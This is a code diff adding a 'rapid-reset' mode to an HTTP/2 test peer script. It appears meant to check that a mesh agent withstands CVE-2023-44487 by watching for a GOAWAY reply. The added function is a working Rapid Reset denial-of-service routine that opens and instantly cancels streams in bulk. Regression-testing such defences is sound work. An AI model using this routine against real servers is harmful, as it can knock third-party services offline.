@@ -10,6 +10,10 @@
       one CONNECT to AUTHORITY (a live agent's 15008); print "status N", the
       response's "baggage V" if any and, on 200, the first line the target
       sent; exit 3 if TLS fails
+  h2_peer.py rapid-reset HOST PORT CERT_DIR ROOT_PEM AUTHORITY COUNT
+      CVE-2023-44487: COUNT times CONNECT to AUTHORITY and RST_STREAM it at
+      once, in batches; print "goaway CODE" if the server sends GOAWAY and
+      "sent N" (how many went out before the connection ended)
 """
 import socket
 import ssl
@@ -18,6 +22,7 @@ import sys
 import h2.config
 import h2.connection
 import h2.events
+import h2.exceptions
 from cryptography import x509
 
 
@@ -196,6 +201,48 @@ def connect_once(host, port, cert_dir, root, authority):
         raise SystemExit(3)
 
 
+def rapid_reset(host, port, cert_dir, root, authority, count):
+    raw = socket.create_connection((host, port), timeout=10)
+    sock = tls_context(False, cert_dir, root).wrap_socket(raw)
+    conn = h2.connection.H2Connection(h2_config(True))
+    conn.initiate_connection()
+    sock.sendall(conn.data_to_send())
+    sent, goaway = 0, None
+    try:
+        while sent < count and goaway is None:
+            for _ in range(min(50, count - sent)):
+                sid = conn.get_next_available_stream_id()
+                conn.send_headers(sid, [(":method", "CONNECT"), (":authority", authority)])
+                conn.reset_stream(sid, error_code=8)
+                sent += 1
+            sock.sendall(conn.data_to_send())
+            sock.settimeout(0.01)
+            try:
+                data = sock.recv(65536)
+                if not data:
+                    break
+                for ev in conn.receive_data(data):
+                    if isinstance(ev, h2.events.ConnectionTerminated):
+                        goaway = ev.error_code
+            except socket.timeout:
+                pass
+            except h2.exceptions.ProtocolError:
+                break
+        sock.settimeout(5)
+        while goaway is None:
+            data = sock.recv(65536)
+            if not data:
+                break
+            for ev in conn.receive_data(data):
+                if isinstance(ev, h2.events.ConnectionTerminated):
+                    goaway = ev.error_code
+    except (ConnectionResetError, BrokenPipeError, ssl.SSLError, socket.timeout):
+        pass
+    if goaway is not None:
+        print(f"goaway {int(goaway)}", flush=True)
+    print(f"sent {sent}", flush=True)
+
+
 if __name__ == "__main__":
     if sys.argv[1] == "server":
         serve(sys.argv[2], sys.argv[3])
@@ -203,5 +250,7 @@ if __name__ == "__main__":
         client(int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5], int(sys.argv[6]), int(sys.argv[7]))
     elif sys.argv[1] == "connect":
         connect_once(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5], sys.argv[6])
+    elif sys.argv[1] == "rapid-reset":
+        rapid_reset(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5], sys.argv[6], int(sys.argv[7]))
     else:
         raise SystemExit(__doc__)
